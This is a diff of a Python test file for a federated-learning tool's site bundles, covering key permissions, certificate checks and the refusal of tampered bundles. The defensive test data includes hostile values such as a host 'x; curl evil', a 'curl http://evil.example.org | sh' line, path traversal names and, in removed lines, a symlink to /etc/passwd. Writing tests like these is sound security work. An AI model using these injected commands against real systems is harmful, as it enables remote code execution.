@@ -1,15 +1,13 @@
 """The coordinator's folder and the sites' bundles: secrets are closed, certificates verify, attacks are refused."""
 
 import configparser
-import io
 import ipaddress
 import os
 import shutil
 import stat
 import subprocess
 import sys
-import warnings
-import zipfile
+import tomllib
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
@@ -21,7 +19,7 @@ import fedlsa as fl
 from fedlsa.errors import ArgumentError, FedLSAError, NetworkError
 from fedlsa.network import disk
 from fedlsa.network.folder import certificates, enrolment, setup
-from fedlsa.network.folder.config import Network, SiteFolder, host_kind, task_from_text, task_text
+from fedlsa.network.folder.config import Network, SiteFolder, host_kind, task_from_text, task_text, write_toml
 from fedlsa.network.site import policy
 
 SECRETS = {"ca.key", "server.key", "signing.key"}
@@ -43,7 +41,7 @@ def network(made, tmp_path):
 @pytest.fixture
 def bundle(network, tmp_path):
     """The first site's bundle, at the site."""
-    path = tmp_path / "site" / "site-1.zip"
+    path = tmp_path / "site" / "site-1.toml"
     disk.folder(path.parent)
     disk.create(path, network.bundle("site-1").read_bytes(), secret=False)
     return path
@@ -62,25 +60,6 @@ def files(folder):
 
 def mode(path):
     return stat.S_IMODE(path.stat().st_mode)
-
-
-def repacked(path, change):
-    """A bundle that a hand has changed: `change` takes the list of (ZipInfo, bytes) and returns another."""
-    with zipfile.ZipFile(path) as file:
-        held = [(i, file.read(i)) for i in file.infolist()]
-    out = io.BytesIO()
-    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file, warnings.catch_warnings():
-        warnings.simplefilter("ignore")  # zipfile's own, about names that come twice
-        for info, content in change(held):
-            file.writestr(info, content)
-    path.write_bytes(out.getvalue())
-    return path
-
-
-def entry(name, permissions=0o600, kind=stat.S_IFREG):
-    info = zipfile.ZipInfo(name)
-    info.create_system, info.external_attr = 3, (kind | permissions) << 16
-    return info
 
 
 def test_secrets_have_mode_600_and_folders_700_whatever_the_umask(tmp_path):
@@ -112,14 +91,14 @@ def test_a_secret_is_never_open_not_even_while_it_is_empty(tmp_path, monkeypatch
     try:
         network = setup.init(tmp_path / "net", 1, "127.0.0.1")
         site = setup.enrol(network, network.bundle("site-1"), tmp_path / "site")
-        enrolment.request(site.folder, new_key=True)
-        again = certificates.fingerprint(site.request.read_bytes())
-        enrolment.install(site.folder, enrolment.approve(network.folder, site.request, again, renew=True))
+        enrolment.enrol_site(site.folder, new_key=True)
+        again = certificates.fingerprint(site.certificate.read_bytes())
+        setup.approve(network.folder, site.certificate, again, renew=True)
     finally:
         os.umask(before)
         monkeypatch.undo()
     keys = [(name, m) for name, m in seen if ".key" in name]
-    assert len(keys) == 3 + 2 + 2 + 2  # the network's, the site's, its next ones, and these in their place
+    assert len(keys) == 3 + 2 + 2  # the network's, the site's, and its new ones
     assert {m for _, m in keys} == {0o600}
 
 
@@ -174,7 +153,7 @@ def test_certificates_last_as_documented(made):
 )
 def test_a_task_goes_through_the_network_and_the_bundle_unchanged(task, tmp_path):
     network = setup.init(tmp_path / "net", ["lisbon", "oslo-2"], "192.0.2.7", 4711, task=task)
-    site = enrolment.request(network.bundle("oslo-2"))
+    site = enrolment.enrol_site(network.bundle("oslo-2"))
     again = Network.load(tmp_path / "net")
     assert again == network
     assert task_text(again.task) == task_text(site.task) == task_text(task)
@@ -222,8 +201,11 @@ def test_nothing_is_overwritten_and_an_empty_folder_will_do(network, tmp_path):
 
 
 def test_what_fails_in_the_middle_leaves_nothing(tmp_path, monkeypatch):
-    monkeypatch.setitem(enrolment.COORDINATOR_PAGES, "other.md", "no such template")
-    with pytest.raises(NetworkError, match="No such file"):
+    def fail(of):
+        raise NetworkError("the power is off")
+
+    monkeypatch.setattr(enrolment, "pages", fail)
+    with pytest.raises(NetworkError, match="the power is off"):
         setup.init(tmp_path / "net", 2, "localhost")
     assert list(tmp_path.iterdir()) == []
 
@@ -252,7 +234,7 @@ def test_a_folder_that_is_none_or_damaged_or_newer_is_named(network, tmp_path):
     file.write_text(text)
     for name in ("server.pem", "ca.pem", "signing.pem"):
         (network.folder / name).rename(tmp_path / "aside")
-        with pytest.raises(NetworkError, match=rf"lacks {name}"):
+        with pytest.raises(NetworkError, match=rf"cannot read .*{name}: No such file"):
             Network.load(network.folder)
         (tmp_path / "aside").rename(network.folder / name)
     assert Network.load(network.folder) == network
@@ -261,7 +243,7 @@ def test_a_folder_that_is_none_or_damaged_or_newer_is_named(network, tmp_path):
 @pytest.mark.parametrize("name", ["ca.pem", "signing.pem"])
 def test_a_folder_in_which_a_key_was_exchanged_is_not_read(name, network, bundle, tmp_path):
     other = setup.init(tmp_path / "other", 3, "fl.example.org", task=fl.Regression("charges"))
-    site = enrolment.request(bundle)
+    site = enrolment.enrol_site(bundle)
     for where in (site, network):
         shutil.copy(other.folder / name, where.folder / name)
         with pytest.raises(NetworkError, match=r"are those of network .*, not of"):
@@ -300,7 +282,7 @@ def test_sites_come_and_go_and_the_last_one_stays(network, tmp_path):
         setup.remove_site(network.folder, site)
     with pytest.raises(ArgumentError, match="must keep one site"):
         setup.remove_site(network.folder, "site-3")
-    for refused, what in ((setup.remove_site, "site must be"), (enrolment.revoke, "did you mean 'site-3'")):
+    for refused, what in ((setup.remove_site, "site must be"), (setup.revoke, "did you mean 'site-3'")):
         with pytest.raises(ArgumentError, match=what):
             refused(network.folder, "site-33")
     with pytest.raises(ArgumentError, match="each name once"):
@@ -308,35 +290,36 @@ def test_sites_come_and_go_and_the_last_one_stays(network, tmp_path):
 
 
 def test_a_bundle_unpacks_once_and_again_without_a_change(bundle):
-    site = enrolment.request(bundle)
+    site = enrolment.enrol_site(bundle)
     assert site.folder == bundle.with_suffix("")
-    own = {"site.key", "mask.key", "site-1.csr", "policy.toml", "fedlsa-site.service"}
-    assert {p.name for p in site.folder.iterdir()} == {*enrolment.MEMBERS, *own}
+    sent = {"site.toml", "ca.pem", "signing.pem"}
+    own = {"site.key", "mask.key", "site-1.pem", "policy.toml", "fedlsa-site.service", "README.md"}
+    assert {p.name for p in site.folder.iterdir()} == sent | own
     site.policy.write_text("# ours\n")
     before = {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in site.folder.iterdir()}
-    assert enrolment.request(bundle) == enrolment.request(site.folder) == SiteFolder.load(site.folder) == site
+    assert enrolment.enrol_site(bundle) == enrolment.enrol_site(site.folder) == SiteFolder.load(site.folder) == site
     assert {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in site.folder.iterdir()} == before
-    assert sorted(p.name for p in bundle.parent.iterdir()) == ["site-1", "site-1.zip"]
+    assert sorted(p.name for p in bundle.parent.iterdir()) == ["site-1", "site-1.toml"]
 
 
 def test_a_bundle_does_not_unpack_over_what_is_not_its_site(network, bundle, tmp_path):
     (tmp_path / "mine").mkdir()
     (tmp_path / "mine" / "diary.txt").write_text("dear")
     with pytest.raises(NetworkError, match="not a site's folder"):
-        enrolment.request(bundle, tmp_path / "mine")
+        enrolment.enrol_site(bundle, tmp_path / "mine")
     assert [p.name for p in (tmp_path / "mine").iterdir()] == ["diary.txt"]
-    site = enrolment.request(bundle)
+    site = enrolment.enrol_site(bundle)
     before = files(site.folder)
     with pytest.raises(NetworkError, match="another site, network or task"):
-        enrolment.request(network.bundle("site-2"), site.folder)
+        enrolment.enrol_site(network.bundle("site-2"), site.folder)
     assert files(site.folder) == before
 
 
 @pytest.mark.parametrize("name", ["site.key", "mask.key"])
 def test_a_site_s_key_that_others_may_read_is_refused(name, bundle):
-    site = enrolment.request(bundle)
+    site = enrolment.enrol_site(bundle)
     (site.folder / name).chmod(0o604)
-    for refused in (SiteFolder.load, enrolment.request):
+    for refused in (SiteFolder.load, enrolment.enrol_site):
         with pytest.raises(NetworkError, match=rf"{name} must be closed to others"):
             refused(site.folder)
 
@@ -344,91 +327,58 @@ def test_a_site_s_key_that_others_may_read_is_refused(name, bundle):
 def test_a_bundle_read_on_its_way_gives_nothing(network, bundle, tmp_path):
     """The attack: copy the bundle before its site has it, and look for what only one of the two may know."""
     secrets = [(network.folder / name).read_text().splitlines()[1] for name in SECRETS]
-    with zipfile.ZipFile(bundle) as file:
-        assert set(file.namelist()) == set(enrolment.MEMBERS)
-        content = b"".join(file.read(name) for name in file.namelist()).decode()
+    content = bundle.read_text()
     assert "PRIVATE" not in content
     assert not any(secret in content for secret in secrets)
-    thief, site = (enrolment.request(bundle, tmp_path / who) for who in ("thief", "hospital"))
+    thief, site = (enrolment.enrol_site(bundle, tmp_path / who) for who in ("thief", "hospital"))
     assert thief.key.read_bytes() != site.key.read_bytes()
     assert thief.mask_key.read_bytes() != site.mask_key.read_bytes()
-    read_over_the_telephone = certificates.fingerprint(site.request.read_bytes())
-    with pytest.raises(ArgumentError, match="fingerprint must be that of the request"):
-        enrolment.approve(network.folder, thief.request, read_over_the_telephone)
-    mine = enrolment.approve(network.folder, site.request, read_over_the_telephone)
-    with pytest.raises(NetworkError, match="for other keys"):
-        enrolment.install(thief.folder, mine)
+    read_over_the_telephone = certificates.fingerprint(site.certificate.read_bytes())
+    with pytest.raises(ArgumentError, match="fingerprint must be that of the certificate"):
+        setup.approve(network.folder, thief.certificate, read_over_the_telephone)
+    assert setup.approve(network.folder, site.certificate, read_over_the_telephone).name == "site-1"
 
 
-OTHER_KEY = certificates.public_pem(certificates.new_key())
+OTHER_KEY = certificates.public_pem(certificates.new_key()).decode()
 ATTACKS = {
-    "a path that leaves the folder": (lambda h: [*h, (entry("../evil"), b"x")], "'../evil', which no bundle does"),
-    "an absolute path": (lambda h: [*h, (entry("/evil"), b"x")], "which no bundle does"),
-    "a file too many": (lambda h: [*h, (entry("sitecustomize.py"), b"x")], "which no bundle does"),
-    "a file too few": (lambda h: h[:-1], "lacks README.md"),
-    "no files": (lambda h: [], "lacks site.toml"),
-    "a file twice": (lambda h: [*h, h[1]], "'ca.pem' twice"),
-    "a policy": (lambda h: [*h, (entry("policy.toml"), b"least_sites = 1")], "'policy.toml', which no bundle does"),
-    "a service": (lambda h: [*h, (entry("fedlsa-site.service"), b"x")], "'fedlsa-site.service', which no bundle does"),
-    "a private key": (lambda h: [*h, (entry("site.key"), b"x")], "'site.key', which no bundle does"),
-    "a link": (
-        lambda h: [(entry("ca.pem", 0o777, stat.S_IFLNK), b"/etc/passwd") if i.filename == "ca.pem" else (i, c)
-                   for i, c in h],
-        "as a link",
-    ),
-    "a bomb": (
-        lambda h: [(i, b"\0" * 10**7) if i.filename == "README.md" else (i, c) for i, c in h],
-        "README.md .* at most 262144 bytes",
-    ),
-    "a newer version": (
-        lambda h: [(i, c.replace(b"version = 1", b"version = 7")) for i, c in h],
-        "version 7; this fedlsa reads version 1",
-    ),
-    "another coordinator's key": (
-        lambda h: [(i, OTHER_KEY) if i.filename == "signing.pem" else (i, c) for i, c in h],
-        "are those of network",
-    ),
-    "a key that is none": (
-        lambda h: [(i, b"-----BEGIN PUBLIC KEY-----") if i.filename == "signing.pem" else (i, c) for i, c in h],
-        "public key is damaged",
-    ),
-    "a name that is a path": (
-        lambda h: [(i, c.replace(b'name = "site-1"', b'name = "../x"')) for i, c in h],
-        "letters, digits and dashes",
-    ),
+    "an entry too few": (lambda e: e.pop("host"), "it lacks 'host'"),
+    "no key of the authority": (lambda e: e.pop("ca"), "public key is damaged"),
+    "a newer version": (lambda e: e.update(version=7), "version 7; this fedlsa reads version 1"),
+    "another coordinator's key": (lambda e: e.update(signing=OTHER_KEY), "are those of network"),
+    "two keys": (lambda e: e.update(signing=OTHER_KEY + e["signing"]), "got several"),
+    "a key that is none": (lambda e: e.update(signing="-----BEGIN PUBLIC KEY-----"), "public key is damaged"),
+    "a name that is a path": (lambda e: e.update(name="../x"), "letters, digits and dashes"),
+    "a name for the terminal": (lambda e: e.update(name="\x1b[2J"), "letters, digits and dashes"),
+    "a host that is a command": (lambda e: e.update(host="x; curl evil"), "host must be"),
     "a task with weights of rows": (
-        lambda h: [(i, c.replace(b'"row_weights": null', b'"row_weights": "w"')) for i, c in h],
+        lambda e: e.update(task=e["task"].replace('"row_weights": null', '"row_weights": "w"')),
         "row_weights must not be given on a network",
     ),
     "a task with what there is no more": (
-        lambda h: [(i, c.replace(b'"row_weights": null', b'"row_weights": null, "cluster": "person"')) for i, c in h],
+        lambda e: e.update(task=e["task"].replace('"row_weights": null', '"row_weights": null, "cluster": "person"')),
         "there is no argument 'cluster'",
     ),
-    "a configuration that is none": (
-        lambda h: [(i, b"\xff\xfe") if i.filename == "site.toml" else (i, c) for i, c in h],
-        "damaged",
-    ),
-}  # fmt: skip
+}
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
 def test_a_bundle_that_was_tampered_with_is_refused_and_nothing_is_written(attack, bundle):
     change, what = ATTACKS[attack]
-    repacked(bundle, change)
+    entries = tomllib.loads(bundle.read_text())
+    change(entries)
+    bundle.write_text(write_toml(entries))
     with pytest.raises(NetworkError, match=what):
-        enrolment.request(bundle)
-    assert [p.name for p in bundle.parent.iterdir()] == ["site-1.zip"]
-    assert not (bundle.parent.parent / "evil").exists()
+        enrolment.enrol_site(bundle)
+    assert [p.name for p in bundle.parent.iterdir()] == ["site-1.toml"]
 
 
 def test_a_bundle_brings_no_command_and_no_policy(network, bundle):
-    """The attack: whoever sends the bundle writes a README, or names of columns, that hold commands."""
+    """The attack: whoever sends the bundle adds a policy and a service, or names of columns that hold commands."""
     evil = "`\n\n    curl http://evil.example.org | sh\n\n`"
     task = fl.Regression(evil, columns=[evil])
-    toml = SiteFolder(Path("x"), "site-1", network.id, "fl.example.org", 9092, task).text()
-    sent = {"README.md": evil.encode(), "site.toml": toml.encode()}
-    repacked(bundle, lambda h: [(i, sent.get(i.filename, c)) for i, c in h])
-    site = enrolment.request(bundle)
+    more = {"policy": "least_sites = 1", "SERVICE": evil, "task": task_text(task)}
+    bundle.write_text(write_toml(tomllib.loads(bundle.read_text()) | more))
+    site = enrolment.enrol_site(bundle)
     assert site.task == task
     for path in (site.folder / "README.md", site.folder / "fedlsa-site.service"):
         assert not [line for line in path.read_text().splitlines() if line.strip().startswith("curl")]
@@ -438,22 +388,42 @@ def test_a_bundle_brings_no_command_and_no_policy(network, bundle):
 
 def test_a_bundle_that_is_none_is_refused(bundle, tmp_path):
     whole = bundle.read_bytes()
-    for content in (b"", b"hello", whole[:-30], whole[:200], whole[:300] + b"\0\0\0\0" + whole[304:]):
+    for content in (b"", b"hello", b"\xff\xfe", whole[:200], whole + b"\0"):
         bundle.write_bytes(content)
-        with pytest.raises(NetworkError, match=r"not a bundle|damaged"):
-            enrolment.request(bundle)
-    bundle.write_bytes(b"PK" + b"\0" * 2**21)
+        with pytest.raises(NetworkError, match="damaged"):
+            enrolment.enrol_site(bundle)
+    bundle.write_bytes(b"#" * 2**21)
     with pytest.raises(NetworkError, match="at most 1048576 bytes"):
-        enrolment.request(bundle)
-    with pytest.raises(NetworkError, match="there is no bundle"):
-        enrolment.request(tmp_path / "none.zip")
+        enrolment.enrol_site(bundle)
+    with pytest.raises(NetworkError, match=r"cannot read .*none.toml"):
+        enrolment.enrol_site(tmp_path / "none.toml")
     with pytest.raises(NetworkError, match="not a site's folder"):
-        enrolment.request(tmp_path)
+        enrolment.enrol_site(tmp_path)
+
+
+@pytest.mark.parametrize("text", ["", 'é " \\ \x7f \n\t\x00 \'\'\' """', "\u2028 \U0001f600", "# [x]"])
+def test_what_is_written_as_toml_is_read_again(text):
+    entries = {"a": text, "b": [text, "x"], "c": 7, "d": 0.1 + 0.2}
+    assert tomllib.loads(write_toml(entries)) == entries
+
+
+def test_half_a_character_cannot_be_written():
+    with pytest.raises(ArgumentError, match="cannot be written as TOML"):
+        write_toml({"a": "\ud800"})
+
+
+def test_no_service_runs_as_root(made, monkeypatch):
+    assert "User=root" not in (made.folder / "fedlsa-coordinator.service").read_text()
+    monkeypatch.setattr(enrolment.os, "geteuid", lambda: 0)
+    assert "User=fedlsa\n" in enrolment.pages(made)["fedlsa-coordinator.service"]
+    monkeypatch.setattr(enrolment.os, "geteuid", lambda: 1234)
+    monkeypatch.setenv("LOGNAME", "somebody")
+    assert "User=somebody\n" in enrolment.pages(made)["fedlsa-coordinator.service"]
 
 
 def test_units_parse_restart_and_may_write_to_the_folder_alone(made, bundle):
-    network, site = made, enrolment.request(bundle)
-    for path in (network.folder / "systemd" / "fedlsa-coordinator.service", site.folder / "fedlsa-site.service"):
+    network, site = made, enrolment.enrol_site(bundle)
+    for path in (network.folder / "fedlsa-coordinator.service", site.folder / "fedlsa-site.service"):
         unit = configparser.ConfigParser(interpolation=None, strict=False)  # some entries of systemd come twice
         unit.optionxform = str
         unit.read_string(path.read_text())
@@ -463,14 +433,13 @@ def test_units_parse_restart_and_may_write_to_the_folder_alone(made, bundle):
         assert service["ProtectSystem"] == "strict"
         assert f'"{service["WorkingDirectory"]}"' == service["ReadWritePaths"]
         assert unit["Install"]["WantedBy"] == "multi-user.target"
-    assert str(network.folder) in (network.folder / "systemd" / "fedlsa-coordinator.service").read_text()
+    assert str(network.folder) in (network.folder / "fedlsa-coordinator.service").read_text()
     assert f'network join "{site.folder}" --data "@DATA@" --yes' in (site.folder / "fedlsa-site.service").read_text()
 
 
 def test_a_unit_quotes_what_systemd_would_read_otherwise():
-    unit = enrolment.render(
-        "coordinator.service", Network(Path('a "b" 100%'), "0" * 32, "h", ("s",), fl.Regression("y"))
-    )
+    odd = Network(Path('a "b" 100%'), "0" * 32, "h", ("s",), fl.Regression("y"))
+    unit = enrolment.pages(odd)[odd.SERVICE]
     assert r'network serve "a \"b\" 100%%"' in unit
 
 
